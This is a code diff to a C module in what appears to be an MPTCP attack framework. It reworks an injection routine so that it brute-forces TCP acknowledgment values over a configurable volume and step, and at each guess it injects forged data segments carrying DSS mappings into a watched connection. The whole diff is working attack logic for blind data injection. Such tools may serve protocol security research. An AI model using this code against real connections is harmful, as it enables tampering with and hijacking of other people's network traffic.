@@ -14,9 +14,13 @@
 
 #include <string.h>
 
-enum { SIZE, MSS = 1000 };
+enum { SIZE, VOLUME, STEP };
+enum { MSS = 1000 };
 static const struct atk_param params[] = {
     [SIZE] = {"size", ATK_P_SIZE, .initial = 4000, .min = 1, .max = 64000},
+    [VOLUME] = {"volume", ATK_P_SIZE, .initial = 2000000, .max = 1000000000},
+    [STEP] = {"step", ATK_P_SIZE, .initial = 40000, .min = 1,
+              .max = 1000000000},
     {.name = NULL},
 };
 
@@ -54,26 +58,37 @@ static uint64_t first_dsn(uint64_t token, uint8_t token_len)
     return server.idsn + 1;
 }
 
-static void inject(struct atk *a, struct atk_watched *f, uint64_t dsn,
-                   uint64_t now)
+static void inject_one(struct atk *a, const struct atk_watched *f, uint64_t dsn,
+                       uint64_t at, uint64_t now)
 {
-    struct atk_way *w = &f->way[1];
+    uint64_t left = atk_param(a, SIZE) - at;
+    uint16_t len = left < MSS ? (uint16_t)left : MSS;
+    struct mpx_opt o = {.subtype = MPX_SUB_DSS};
+    struct atk_opts opts = {0};
     uint8_t octets[MSS];
 
-    for (uint64_t at = 0; at < atk_param(a, SIZE); at += MSS) {
-        uint64_t left = atk_param(a, SIZE) - at;
-        uint16_t len = left < MSS ? (uint16_t)left : MSS;
-        struct mpx_opt o = {.subtype = MPX_SUB_DSS};
-        struct atk_opts opts = {0};
+    atk_payload(a, at, octets, len);
+    o.u.dss.has_map = o.u.dss.dsn8 = true;
+    o.u.dss.dsn = dsn + at;
+    o.u.dss.ssn = (uint32_t)at + 1;
+    o.u.dss.dll = len;
+    atk_opts_add(&opts, &o);
+    atk_flows_inject(a, f, 1, MPX_TCP_ACK, &opts, octets, len, now);
+}
 
-        atk_payload(a, at, octets, len);
-        o.u.dss.has_map = o.u.dss.dsn8 = true;
-        o.u.dss.dsn = dsn + at;
-        o.u.dss.ssn = (uint32_t)at + 1;
-        o.u.dss.dll = len;
-        atk_opts_add(&opts, &o);
-        atk_flows_inject(a, f, 1, MPX_TCP_ACK, &opts, octets, len, now);
-        w->next += len;
+static void inject(struct atk *a, const struct atk_watched *f, uint64_t dsn,
+                   uint64_t now)
+{
+    struct atk_watched guess = *f;
+    struct atk_way *w = &guess.way[1];
+
+    for (uint64_t sent = 0; sent <= atk_param(a, VOLUME);
+         sent += atk_param(a, STEP)) {
+        w->ack = f->way[1].ack + (uint32_t)sent;
+        for (uint64_t at = 0; at < atk_param(a, SIZE); at += MSS) {
+            w->next = f->way[1].next + (uint32_t)at;
+            inject_one(a, &guess, dsn, at, now);
+        }
     }
 }
 
